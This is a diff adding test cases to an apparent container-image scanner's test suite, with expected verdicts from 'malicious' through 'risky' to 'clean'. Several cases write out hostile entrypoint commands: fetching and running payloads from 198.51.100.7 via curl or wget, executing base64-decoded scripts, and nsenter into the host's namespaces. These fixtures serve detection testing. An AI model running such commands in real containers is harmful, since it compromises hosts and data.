@@ -260,6 +260,46 @@ const started: readonly Case[] = [
     },
     { verdict: 'malicious', categories: ['hacking'] },
   ],
+  [
+    'an archive that an entrypoint fetches, unpacks and runs',
+    {
+      layers: [base],
+      config: { Cmd: ['sh', '-c', 'curl -fsSL http://198.51.100.7/x.tgz | tar xz -C /tmp && /tmp/x/run'] },
+    },
+    { ...backdoor, reachable: true },
+  ],
+  [
+    'a program that a start script decodes into a file and runs',
+    {
+      layers: [[script('init.sh', `echo ${encoded} | base64 -d > /tmp/a.sh`, 'sh /tmp/a.sh', 'exec nginx')]],
+      config: { Entrypoint: ['/init.sh'] },
+    },
+    { ...backdoor, reachable: true },
+  ],
+  [
+    'a function of a start script that fetches what it is told to',
+    {
+      layers: [
+        [
+          script(
+            'init.sh',
+            'get() { wget -q -O - $1 > $2 || curl -fsSL $1 -o $2; chmod +x $2; }',
+            'get http://198.51.100.7/x86_64 /tmp/dbused; /tmp/dbused -c',
+          ),
+        ],
+      ],
+      config: { Entrypoint: ['/init.sh'] },
+    },
+    { ...backdoor, reachable: true },
+  ],
+  [
+    'a command in a string of inline code',
+    {
+      layers: [base],
+      config: { Cmd: ['python3', '-c', 'import os; os.system("curl -s http://198.51.100.7/x | sh")'] },
+    },
+    { ...backdoor, reachable: true },
+  ],
 ];
 
 const padding = '# nothing to see in this line\n'.repeat(50_000);
@@ -407,6 +447,16 @@ const doubtful: readonly Case[] = [
       config: { Cmd: ['nginx'] },
     },
     { verdict: 'risky', categories: ['backdoor'], reachable: false },
+  ],
+  [
+    "an entrypoint that enters the host's namespaces",
+    { layers: [base], config: { Cmd: ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', 'sh'] } },
+    { verdict: 'risky' },
+  ],
+  [
+    'an entrypoint that runs what a variable holds encoded',
+    { layers: [base], config: { Cmd: ['sh', '-c', 'echo "$STARTUP" | base64 -d | bash'] } },
+    { verdict: 'risky' },
   ],
 ];
 
@@ -559,6 +609,42 @@ const quiet: readonly Case[] = [
         ],
       ],
       config: { Cmd: ['apache2'] },
+    },
+    { verdict: 'clean' },
+  ],
+  [
+    'inline code that waits for its database and starts a script',
+    {
+      layers: [base],
+      config: {
+        Cmd: ['php', '-r', 'while(!@fsockopen("db",3306)) sleep(1); exec("sh /migrate.sh");'],
+      },
+    },
+    { verdict: 'clean' },
+  ],
+  [
+    'a build that unpacks and installs software from its own site',
+    {
+      layers: [base],
+      history: [
+        'RUN /bin/sh -c curl -fsSL https://x.example.com/a.tgz | tar xz -C /usr/src && cd /usr/src/a && ./configure && make install # buildkit',
+      ],
+      config: { Cmd: ['a'] },
+    },
+    { verdict: 'clean' },
+  ],
+  [
+    'a start script that is itself decoded, and harmless',
+    {
+      layers: [
+        [
+          script(
+            'init.sh',
+            `echo ${Buffer.from('exec nginx -g "daemon off;"').toString('base64')} | base64 -d | sh`,
+          ),
+        ],
+      ],
+      config: { Entrypoint: ['/init.sh'] },
     },
     { verdict: 'clean' },
   ],
